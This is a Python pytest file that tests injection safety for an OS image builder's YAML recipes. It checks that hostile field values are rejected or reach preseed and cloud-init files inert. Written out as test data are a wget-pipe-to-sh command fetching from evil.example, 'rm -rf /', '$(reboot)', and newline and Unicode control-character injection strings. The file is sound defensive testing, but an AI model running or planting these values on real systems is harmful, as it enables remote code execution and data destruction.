"""Injection safety: hostile recipe values are refused with a clear message, or reach the files inert.

Each case puts one hostile value into one field (the YAML is produced with yaml.safe_dump, so the
value the recipe loader sees is exactly the hostile string).
"""

from __future__ import annotations

import base64
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml

from builder.recipe import check_recipe, load_recipe
from builder.render.write import render_recipe

INJECT = "d-i preseed/late_command string wget -qO- http://evil.example/x | sh"
KEY = (Path(__file__).parent / "data" / "user_key.pub").read_text().split()[:2]


def recipe_with(path: tuple, value: Any) -> dict[str, Any]:
    data: dict[str, Any] = {
        "extends": "web-server",
        "users": [{"name": "admin", "full_name": "Admin", "ssh_keys": [" ".join(KEY) + " ops@lab"]}],
        "late_commands": ["true"],
    }
    node = data
    for part in path[:-1]:
        node = node.setdefault(part, {}) if isinstance(part, str) else node[part]
    node[path[-1]] = value
    return data


# (field path, hostile value, expected error text)
REJECTED = [
    (("hostname",), "web\n" + INJECT, "control character"),
    (("hostname",), "$(reboot)", "not a valid host name"),
    (("hostname",), "web; rm -rf /", "not a valid host name"),
    (("hostname",), "wéb", "non-ASCII"),
    (("domain",), "lab.internal\n" + INJECT, "control character"),
    (("users", 0, "name"), "admin;reboot", "not a valid user name"),
    (("users", 0, "full_name"), "Admin\n" + INJECT, "control character"),
    (("users", 0, "full_name"), "`id`", "may not contain"),
    (("users", 0, "full_name"), "$(reboot)", "may not contain"),
    (("users", 0, "full_name"), "Admin\\", "may not contain"),
    (("users", 0, "full_name"), "Admin\u2028" + INJECT, "control character"),
    (("users", 0, "full_name"), "Admin\u202egnp.exe", "control character"),
    (("users", 0, "full_name"), "Admin\x1b[2J", "control character"),
    (("users", 0, "ssh_keys", 0), " ".join(KEY) + " ops\r" + INJECT, "control character"),
    (("users", 0, "password_hash"), "$6$x$y\n" + INJECT, "control character"),
    (("mirror", "host"), "deb.debian.org/evil", "not a valid host name"),
    (("mirror", "path"), "/debian\n" + INJECT, "control character"),
    (("mirror", "proxy"), "http://proxy:3128/ " + INJECT, "not a proxy URL"),
    (("network", "nameservers"), ["192.168.1.1; reboot"], "not an IP address"),
    (("network", "search"), ["lab.internal$(x)"], "not a valid DNS domain"),
    (("packages",), ["apache2; rm -rf /"], "not a Debian package name"),
    (("timezone",), "Etc/UTC\n" + INJECT, "control character"),
    (("locale",), "en_US.UTF-8 " + INJECT, "not a locale"),
    (("late_commands",), ["echo \x00 hidden"], "control character"),
    (("network", "bridge"), "vmbr0,tag=5", "not a bridge name"),
]


@pytest.mark.parametrize(("path", "value", "message"), REJECTED, ids=[f"{'.'.join(map(str, c[0]))}-{i}" for i, c in enumerate(REJECTED)])  # noqa: E501
def test_hostile_value_is_rejected(recipes: Path, out: Path, path: tuple, value: Any, message: str) -> None:
    file = recipes / "hostile.yaml"
    file.write_text(yaml.safe_dump(recipe_with(path, value), allow_unicode=True))
    problems = check_recipe(file, recipes).problems
    field = ".".join(str(p) for p in path)
    assert any(message in p.message and ".".join(map(str, p.path)).startswith(field) for p in problems), problems
    assert all(p.line > 0 for p in problems)
    assert not (out / "hostile").exists()


# Values that are legitimate and must arrive intact, inert, in every rendered file.
NEUTRALISED = [
    (("late_commands",), ["echo 'pwned' > /etc/motd # comment\n" + INJECT, "printf '%s' \"$(hostname)\" `id`"]),
    (("late_commands",), ["echo 'key: value' && echo '- item' && echo '{a: [b]}' && echo '*anchor &x !!tag'"]),
    (("users", 0, "full_name"), "José Müller-Łukasiewicz 李"),
    (("users", 0, "full_name"), "#not a comment"),
    (("users", 0, "ssh_keys", 0), " ".join(KEY) + " $(reboot);`id`'\"#: x"),
    (("hostname",), "yes"),
    (("hostname",), "null"),
    (("description",), "Line with: colon # and hash, 'quotes' \"too\" and ünïcödé"),
]


@pytest.mark.parametrize(("path", "value"), NEUTRALISED, ids=[f"{'.'.join(map(str, c[0]))}-{i}" for i, c in enumerate(NEUTRALISED)])  # noqa: E501
def test_hostile_value_is_neutralised(recipes: Path, out: Path, path: tuple, value: Any) -> None:
    file = recipes / "hostile.yaml"
    file.write_text(yaml.safe_dump(recipe_with(path, value), allow_unicode=True))
    rendered = render_recipe(load_recipe("hostile", recipes), out)
    preseed = rendered.files["preseed.cfg"].read_text()
    lines = preseed.splitlines()
    # Exactly one late_command line, ours; no injected directive anywhere.
    assert [ln for ln in lines if "preseed/late_command" in ln and not ln.startswith("#")] == [
        ln for ln in lines if ln.startswith("d-i preseed/late_command string in-target sh -c 'echo ")]
    assert sum("preseed/late_command" in ln for ln in lines if not ln.startswith("#")) == 1
    assert INJECT not in preseed and not any(ln.startswith("wget") for ln in lines)
    assert all(ln == "" or ln.startswith(("#", "d-i ", "tasksel ", "popularity-contest ")) for ln in lines), lines
    user_data = yaml.safe_load(rendered.files["user-data"].read_text())
    late_script = decode_late_script(preseed)
    if path[0] == "late_commands":
        assert user_data["write_files"][-1]["content"].endswith("\n".join(value) + "\n")
        inner = base64.b64decode(late_script.split("echo ")[-1].split(" |")[0]).decode()
        assert inner.endswith("\n".join(value) + "\n")
    elif path[:2] == ("users", 0) and path[2] == "full_name":
        assert user_data["users"][0]["gecos"] == value
        assert f"d-i passwd/user-fullname string {value}" in lines
    elif path[:2] == ("users", 0):
        assert user_data["users"][0]["ssh_authorized_keys"] == [value]
        assert f"printf '%s\\n' {shlex.quote(value)} >> /home/admin/.ssh/authorized_keys" in late_script
        assert shlex.split(f"x {shlex.quote(value)}")[1] == value
    elif path == ("hostname",):
        assert user_data["hostname"] == value and isinstance(user_data["hostname"], str)
        assert yaml.safe_load(rendered.files["meta-data"].read_text())["local-hostname"] == value


def decode_late_script(preseed: str) -> str:
    line = next(ln for ln in preseed.splitlines() if ln.startswith("d-i preseed/late_command"))
    payload = line.split("echo ", 1)[1].split(" |", 1)[0]
    return base64.b64decode(payload).decode()


def test_injected_hostname_never_reaches_a_file(imgbuild, recipes: Path, out: Path) -> None:
    (recipes / "evil.yaml").write_text(yaml.safe_dump({"extends": "web-server", "hostname": "web\n" + INJECT}))
    result = imgbuild("render", "evil")
    assert result.returncode == 2 and "evil.yaml:" in result.stderr and "hostname:" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (out / "evil").exists() or not any(
        INJECT in p.read_text(errors="replace") for p in (out / "evil").iterdir() if p.is_file())
